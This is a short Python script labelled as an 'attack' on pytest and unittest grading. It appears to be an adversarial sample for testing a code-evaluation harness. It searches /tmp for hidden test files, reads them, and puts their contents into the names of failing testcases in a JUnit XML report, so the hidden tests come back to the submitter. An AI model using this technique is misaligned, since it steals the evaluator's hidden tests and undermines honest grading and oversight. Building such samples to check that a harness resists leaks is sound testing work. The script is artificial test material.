# Wants to read the author's hidden tests without a flag: they become the names of failed tests in the report.
# attack: python leak-pytest leak-unittest
import glob, os
from xml.sax.saxutils import quoteattr
text = "".join(open(p).read() for p in glob.glob("/tmp/**/test_it.py", recursive=True))
count = 2 if "unittest" in text else 4
size = len(text) // count + 1
cases = "".join(f"<testcase name={quoteattr(text[i * size:(i + 1) * size])}><failure/></testcase>" for i in range(count))
os.makedirs("report", exist_ok=True)
open("report/results.xml", "w").write(f"<testsuite>{cases}</testsuite>")
open("report/changed", "w").close()
os._exit(1)
